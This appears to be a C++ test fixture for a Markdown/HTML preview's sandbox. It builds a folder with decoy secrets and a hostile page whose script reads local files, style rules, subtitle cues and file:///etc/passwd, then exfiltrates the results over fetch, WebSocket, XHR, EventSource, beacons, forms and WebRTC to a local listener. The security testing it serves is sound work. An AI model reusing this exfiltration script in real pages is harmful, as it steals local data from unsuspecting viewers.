// A user's home with a document's folder in it, and a document that tries
// every way a page has to read what it shows and what lies around it, and to
// send out what it got: the attacker's document of the preview's tests.
//
// The folder holds a picture, style sheets (one imported, one a link out of
// the folder), a font, subtitles and a sound; beside it, outside, lie
// secrets of the same kinds. The document's raw HTML (fragment(), which is
// Markdown as well as a page's body) shows the folder's files, then, once the
// page has loaded:
// - reads: the rules of every style sheet, the outside sheet's effect, the
//   cues of every subtitle track, whether files outside exist (pictures and
//   style sheets that load or fail, by their addresses and by relative
//   references up out of the folder), where the page is (its address, its base, the addresses it
//   resolves), the folder's files by script, a picture's pixels;
// - sends: a WebSocket, fetch, XMLHttpRequest, EventSource, a beacon, a
//   picture, prefetches and preconnections, a form, and WebRTC with STUN and
//   TURN servers on the listener's ports, from the page, from a frame it
//   makes (and reaches before the frame's own document could run a script)
//   and from a frame it writes;
// and writes what it got, as JSON, into the element "got" and to its console
// as "got: {...}" once every attempt has ended ("done": true). A click in the
// page then plays the folder's sound through Web Audio and a sound of the
// page's own, and adds the loudest sample of each ("audio", "audioControl").
#pragma once

#include <QByteArray>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QString>
#include <QTemporaryDir>
#include <QUrl>

#include <cmath>

namespace hostile {

inline const QByteArray Secret = "TOPSECRET-42";

inline bool writeFile(const QString &path, const QByteArray &bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

// A sound: a sine wave, 16-bit mono PCM at 8 kHz, as a WAV file.
inline QByteArray wave(double seconds) {
    const quint32 rate = 8000, samples = quint32(seconds * rate);
    QByteArray data;
    for (quint32 i = 0; i < samples; i++) {
        const qint16 value = qint16(20000 * std::sin(i * 0.3));
        data.append(char(value & 0xff)).append(char((value >> 8) & 0xff));
    }
    auto le32 = [](quint32 v) {
        const char bytes[] = {char(v), char(v >> 8), char(v >> 16), char(v >> 24)};
        return QByteArray(bytes, 4);
    };
    auto le16 = [](quint16 v) {
        const char bytes[] = {char(v), char(v >> 8)};
        return QByteArray(bytes, 2);
    };
    return "RIFF" + le32(36 + quint32(data.size())) + "WAVEfmt " + le32(16) + le16(1) + le16(1) + le32(rate) +
           le32(rate * 2) + le16(2) + le16(16) + "data" + le32(quint32(data.size())) + data;
}

struct Folder {
    QTemporaryDir dir;
    QString home = dir.filePath(QStringLiteral("home/ann"));
    QString notes = home + QStringLiteral("/notes");
    QString document = notes + QStringLiteral("/notes.md");

    // A file beside the folder, by its file: address.
    QString outside(const char *name) const {
        return QUrl::fromLocalFile(home + u'/' + QLatin1String(name)).toString(QUrl::FullyEncoded);
    }

    bool write() {
        if (!QDir().mkpath(notes + "/sub") || !QDir().mkpath(notes + "/fonts"))
            return false;
        QImage picture(37, 23, QImage::Format_RGB32);
        picture.fill(Qt::darkGreen);
        const QString font = QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf");
        return picture.save(notes + "/pic.png", "PNG") && picture.save(home + "/secret.png", "PNG") &&
               writeFile(notes + "/look.css",
                         "p.q { color: rgb(1, 2, 3); } p.q::before { content: \"FOLDER-RULE \"; }\n"
                         "@font-face { font-family: \"Folder Font\"; src: url(fonts/face.ttf); }\n"
                         ".f { font-family: \"Folder Font\"; } .bg { background-image: url(pic.png); }\n") &&
               writeFile(notes + "/sub/deep.css", "p.d { color: rgb(4, 5, 6); }\n") &&
               writeFile(notes + "/subs.vtt", "WEBVTT\n\n00:00.000 --> 00:09.000\nFOLDER-CUE\n") &&
               writeFile(notes + "/tone.wav", wave(6)) && QFile::copy(font, notes + "/fonts/face.ttf") &&
               QFile::link(QStringLiteral("../secret.css"), notes + "/link.css") &&
               QFile::link(QStringLiteral("../secret.png"), notes + "/link.png") &&
               writeFile(home + "/secret.txt", Secret + '\n') &&
               writeFile(home + "/secret.css", "p.s::before { content: \"" + Secret + "\"; }\n") &&
               writeFile(home + "/secret.vtt", "WEBVTT\n\n00:00.000 --> 00:09.000\n" + Secret + "\n") &&
               writeFile(home + "/secret.wav", wave(6));
    }

    // The document's raw HTML, sending to 127.0.0.1 at `tcpPort` and
    // `udpPort`.
    QString fragment(quint16 tcpPort, quint16 udpPort) const {
        QString text = QString::fromUtf8(R"html(<link rel="stylesheet" href="look.css">
<link rel="stylesheet" href="link.css">
<link rel="stylesheet" href="@OUT@secret.css">
<style>@import url(sub/deep.css); @import url(http://127.0.0.1:@TCP@/import.css); p.inline { color: rgb(7, 8, 9); }</style>
<link rel="prefetch" href="http://127.0.0.1:@TCP@/prefetch">
<link rel="preload" as="image" href="http://127.0.0.1:@TCP@/preload.png">
<link rel="preconnect" href="http://127.0.0.1:@TCP@/">
<link rel="dns-prefetch" href="http://127.0.0.1:@TCP@/">
<p class="q f bg">Styled by the folder.</p>
<p class="d">Styled by a sheet it imports.</p>
<p class="s">Styled by a sheet outside.</p>
<p class="inline">Styled by the page.</p>
<p><img id="pic" src="pic.png" alt="a picture"> <img src="http://127.0.0.1:@TCP@/remote.png" alt="remote"></p>
<video id="video"><track kind="subtitles" src="subs.vtt" default><track kind="subtitles" src="@OUT@secret.vtt"></video>
<audio id="tone" src="tone.wav"></audio>
<form id="form" action="http://127.0.0.1:@TCP@/form" method="post"><input name="d" value="x"></form>
<pre id="got">nothing yet</pre>
<script>
(function () {
  var got = {sheets: [], cues: [], exists: {}, where: [], sent: {}, rtc: {}}, pending = 1, finished = false;
  function show() { document.getElementById('got').textContent = JSON.stringify(got); }
  function wait() { pending++; }
  function settle() {
    if (--pending > 0 || finished) return;
    finished = true; got.done = true; show(); console.log('got: ' + JSON.stringify(got));
  }
  function once(f) { var called = false; return function () { if (!called) { called = true; f(); } }; }
  function leak() { return encodeURIComponent(JSON.stringify(got)); }
  function rules(sheet) {
    try { return Array.prototype.map.call(sheet.cssRules, function (r) { return r.cssText; }).join(' '); }
    catch (e) { return 'refused'; }
  }
  function probe(name, url) {
    wait();
    var image = new Image();
    image.onload = function () { got.exists[name] = 'shown'; settle(); };
    image.onerror = function () { got.exists[name] = 'error'; settle(); };
    image.src = url;
  }
  function probeSheet(name, url) {
    wait();
    var link = document.createElement('link');
    link.rel = 'stylesheet';
    link.onload = function () { got.exists[name] = 'shown'; settle(); };
    link.onerror = function () { got.exists[name] = 'error'; settle(); };
    link.href = url;
    document.head.appendChild(link);
  }
  function send(name, attempt) {
    try { got.sent[name] = attempt() || 'tried'; } catch (e) { got.sent[name] = 'refused'; }
  }
  window.orvaneRtc = function (name, w) {
    try {
      var pc = new w.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:@UDP@'},
        {urls: ['turn:127.0.0.1:@UDP@?transport=udp', 'turn:127.0.0.1:@TCP@?transport=tcp'], username: 'u', credential: 'c'}]});
      got.rtc[name] = 'made';
      wait();
      var done = once(settle);
      pc.onicegatheringstatechange = function () { if (pc.iceGatheringState === 'complete') done(); };
      pc.createDataChannel('out');
      pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); }).catch(done);
    } catch (e) { got.rtc[name] = 'refused'; }
  };
  function readCues(track) {
    wait();
    var done = once(function () {
      var cues = track.track.cues;
      got.cues.push(cues ? Array.prototype.map.call(cues, function (c) { return c.text; }).join(' ') : '');
      settle();
    });
    track.addEventListener('load', done);
    track.addEventListener('error', done);
    if (track.readyState >= 2) done();
    track.track.mode = 'hidden';
  }
  window.addEventListener('load', function () {
    // What the page shows, and what lies around it.
    Array.prototype.forEach.call(document.styleSheets, function (sheet) {
      if (sheet.href) { got.sheets.push(rules(sheet)); return; }
      try {
        Array.prototype.forEach.call(sheet.cssRules, function (rule) {
          if (rule.styleSheet) got.sheets.push(rules(rule.styleSheet));
          else got.inlineRules = (got.inlineRules || '') + rule.cssText;
        });
      } catch (e) { got.inlineRules = 'refused'; }
    });
    got.outsideRule = getComputedStyle(document.querySelector('p.s'), '::before').content;
    Array.prototype.forEach.call(document.querySelectorAll('track'), readCues);
    probe('inside', 'pic.png');
    probe('inside missing', 'missing.png');
    probe('link out', 'link.png');
    probe('up', '../secret.png');
    probe('outside', '@OUT@secret.png');
    probe('outside missing', '@OUT@missing.png');
    probe('system', 'file:///etc/passwd');
    probeSheet('sheet outside', '@OUT@secret.css');
    probeSheet('sheet outside missing', '@OUT@missing.css');
    probeSheet('sheet inside missing', 'missing.css');
    probeSheet('sheet up', '../secret.css');
    var pic = document.getElementById('pic');
    got.where = [location.href, document.URL, document.baseURI, document.referrer, pic.src, pic.currentSrc,
                 getComputedStyle(document.querySelector('p.q')).backgroundImage, new Error().stack]
      .concat(Array.prototype.filter.call(document.querySelectorAll('link[rel=stylesheet]'), function (l) {
        return l.getAttribute('href').indexOf(':') < 0;  // what the page did not name itself
      }).map(function (l) { return l.sheet ? String(l.sheet.href) : l.href; }))
      .concat(performance.getEntries().map(function (e) { return e.name; }));
    wait();
    fetch('look.css').then(function (r) { return r.text(); })
      .then(function (t) { got.fetchOwn = t; settle(); }, function () { got.fetchOwn = 'refused'; settle(); });
    try { var x = new XMLHttpRequest(); x.open('GET', 'look.css', false); x.send(); got.xhrOwn = x.responseText; }
    catch (e) { got.xhrOwn = 'refused'; }
    try {
      var canvas = document.createElement('canvas'), g = canvas.getContext('2d');
      g.drawImage(pic, 0, 0); got.canvas = String(g.getImageData(0, 0, 1, 1).data[1]);
    } catch (e) { got.canvas = 'refused'; }
    show();
    // What it got, out.
    send('websocket', function () {
      var ws = new WebSocket('ws://127.0.0.1:@TCP@/ws?d=' + leak());
      wait(); var done = once(settle); ws.onerror = done; ws.onclose = done; ws.onopen = done;
    });
    send('fetch', function () {
      wait();
      fetch('http://127.0.0.1:@TCP@/fetch?d=' + leak(), {method: 'POST', mode: 'no-cors', body: leak()})
        .then(settle, settle);
    });
    send('xhr', function () {
      var x = new XMLHttpRequest(); x.open('POST', 'http://127.0.0.1:@TCP@/xhr'); wait();
      var done = once(settle); x.onloadend = done; x.send(leak());
    });
    send('eventsource', function () {
      var source = new EventSource('http://127.0.0.1:@TCP@/events?d=' + leak());
      wait(); var done = once(function () { source.close(); settle(); }); source.onerror = done; source.onopen = done;
    });
    send('beacon', function () { return String(navigator.sendBeacon('http://127.0.0.1:@TCP@/beacon', leak())); });
    probe('remote', 'http://127.0.0.1:@TCP@/probe.png?d=' + leak());
    window.orvaneRtc('page', window);
    var blank = document.createElement('iframe');
    document.body.appendChild(blank);
    window.orvaneRtc('blank frame', blank.contentWindow);
    var written = document.createElement('iframe');
    wait();
    written.onload = once(settle);
    written.srcdoc = '<script>parent.orvaneRtc("written frame", window);<\/script>';
    document.body.appendChild(written);
    send('form', function () { document.getElementById('form').submit(); });
    settle();
  });
  document.addEventListener('click', function () {
    // A click lets the page play sound: the folder's, and one of its own.
    function loudest(media, name) {
      var context = new AudioContext(), source = context.createMediaElementSource(media);
      var listener = context.createScriptProcessor(4096, 1, 1), max = 0;
      listener.onaudioprocess = function (e) {
        var samples = e.inputBuffer.getChannelData(0);
        for (var i = 0; i < samples.length; i++) max = Math.max(max, Math.abs(samples[i]));
      };
      // Heard, not played aloud: a page playing sound wakes the desktop's
      // services, which a display without them can hang on.
      var silent = context.createGain();
      silent.gain.value = 0;
      source.connect(listener); listener.connect(silent); silent.connect(context.destination);
      media.addEventListener('timeupdate', function () {
        if (media.currentTime <= 1.5 || name in got) return;
        media.pause(); context.close();
        got[name] = max; show(); console.log('heard: ' + name);
      });
      media.play();
    }
    loudest(document.getElementById('tone'), 'audio');
    var own = new Audio('@OWN@');
    loudest(own, 'audioControl');
  }, {once: true});
})();
</script>
)html");
        return text.replace(QLatin1String("@OUT@"), outside(""))
            .replace(QLatin1String("@TCP@"), QString::number(tcpPort))
            .replace(QLatin1String("@UDP@"), QString::number(udpPort))
            .replace(QLatin1String("@OWN@"),
                     QStringLiteral("data:audio/wav;base64,") + QString::fromLatin1(wave(6).toBase64()));
    }
};

}  // namespace hostile
